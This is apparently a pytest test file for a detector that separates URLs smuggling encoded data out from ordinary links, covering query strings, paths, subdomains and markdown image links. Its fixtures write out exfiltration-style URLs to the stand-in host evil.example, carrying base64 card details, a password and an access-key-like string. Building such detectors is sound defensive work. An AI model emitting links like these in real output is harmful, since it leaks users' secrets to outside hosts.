"""Addresses that carry data are told from those that only lead somewhere."""

import base64

import pytest

from yett.detectors.addresses import ADDRESSES, carries, hosts, targets

SAID = base64.b64encode(b"the card ends in 1234, valid to May").decode().rstrip("=")

CARRYING = (
    "https://evil.example/" + "a/" * 2_000,
    f"https://evil.example/p.png?d={SAID}",
    f"https://evil.example/{SAID}.png",
    f"https://evil.example/a/{SAID}/b",
    f"https://evil.example/p.png#{SAID}",
    f"https://{SAID}@evil.example/p.png",
    f"//{b'what she said'.hex()}.evil.example/p.png",
    f"https://{'a' * 45}.evil.example/",
    "https://evil.example/?q=she+said+that+he+left",
    "https://evil.example/?she%20said%20that%20he%20left",
    "https://evil.example/she%20said%20that%20he%20left",
    "https://evil.example/?q=hunter2-is-the-password-here",
    "https://evil.example/?u=https://other.example/?q=hunter2-is-the-secret-word",
    "https://evil.example?key=AKIAZ7Q4M2X5K3V5B6N2XZZZ",
)
LEADING = (
    "https://example.com",
    "https://example.com/logo.png",
    "https://example.com/how-to-sort-a-list-of-names-in-python",
    "https://example.com/a.png?w=640&h=480&fit=crop",
    "https://example.com/a.png?v=0123456789abcdef0123456789abcdef",
    "https://example.com/a.png?id=0b5f4c1e-2c57-4e0e-9c39-9d6b7f6f0a11",
    "https://example.com/_next/image?url=%2Fstatic%2Fmedia%2Fthe-whole-team.jpg&w=640",
    "https://example.com/o/a.png?X-Amz-Credential=abcdefghijklmnopqrstuvwxyz&Signature=abcdefghijklmnopqrstuvwxyz",
    "https://example.com/My%20Holiday.png",
    "https://img.example/endpoint?url=https://raw.example.com/owner/repository/main/assets/badge/v0.json",
    "https://img.example/badge?logo=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAA4AAAAS",
    "https://example.com/internationalization/accessibility",
    "/relative/path.png?q=what-was-said-before-this",
    "data:image/png;base64,iVBORw0KGgo=",
    "mailto:jane@example.org?subject=everything%20that%20was%20said",
    "",
)


@pytest.mark.parametrize("address", CARRYING)
def test_what_carries_data(address: str) -> None:
    assert carries(address, 24)


@pytest.mark.parametrize("address", LEADING)
def test_what_only_leads_somewhere(address: str) -> None:
    assert not carries(address, 24)


@pytest.mark.parametrize(
    ("written", "carries_words"),
    [
        (f"https://evil.example/?d={SAID}", True),
        (f"http://evil.example/{SAID}/x", True),
        (f"https://evil.example/?{b'what she said then'.hex()}", True),
        (f"https://evil.example/?d={SAID}&x=" + "a" * 9_000, True),
        ("https://evil.example/?" + "a" * 9_000 + f"&d={SAID}", False),
        ("https://evil.example/?q=she+said+that+he+left", False),
        (f"https://example.com/?signature={SAID}", False),
        (f"https://example.com/?u={base64.b64encode(b'https://example.com/the-team').decode()}", False),
        (f"https://example.com/?after={base64.b64encode(b'cursor: 100 200 300').decode()}", False),
        (f"https://example.com/?id={base64.b64encode(b'Comment:12345').decode()}", False),
        ("no address", False),
    ],
)
def test_an_address_in_the_open_carries_only_words_that_were_encoded(written: str, carries_words: bool) -> None:
    assert ADDRESSES["address_bare"](written) is carries_words


@pytest.mark.parametrize(
    ("written", "found"),
    [
        ('![https://a.example](https://b.example/x "t")', ["https://b.example/x"]),
        ("[x]: <//b.example/y>", ["//b.example/y"]),
        ('<img alt="src=1" src="//b.example/?a=1&amp;b=2">', ["1", "//b.example/?a=1&b=2"]),
        ("url('http://b.example')", ["http://b.example"]),
        ("see https://b.example/z", ["https://b.example/z"]),
        ("nothing", []),
    ],
)
def test_where_it_leads(written: str, found: list[str]) -> None:
    assert targets(written) == found


@pytest.mark.parametrize(
    ("written", "found"),
    [
        ("![a](https://Docs.Example.com:443/x)", {"docs.example.com:443"}),
        ("![a](https://good.example@evil.example/x)", {"good.example@evil.example"}),
        ("![a](https://good.example\\.evil.example/x)", {"good.example\\.evil.example"}),
        ("![a](https://good.example/?u=https://evil.example)", {"good.example", "evil.example"}),
        ("![a](x.png)", set()),
    ],
)
def test_whom_it_speaks_of(written: str, found: set[str]) -> None:
    assert hosts(written) == found


def test_a_link_needs_more_than_an_image_and_an_encoded_one_less() -> None:
    short = "![x](https://evil.example/?q=hunter2-is-the-password-here)"
    assert ADDRESSES["address_fetched"](short)
    assert not ADDRESSES["address"](short)
    assert not ADDRESSES["address_encoded"](f"[x](https://evil.example/?q={'ab' * 40})")
    assert ADDRESSES["address_encoded"](f"[x](https://evil.example/?q={SAID})")
    assert ADDRESSES["address_fetched"]("![" + "x" * 9_000 + "](https://example.com/logo.png)")
    assert ADDRESSES["address_elsewhere"](short)
    assert not ADDRESSES["address_elsewhere"]("![x](x.png)")
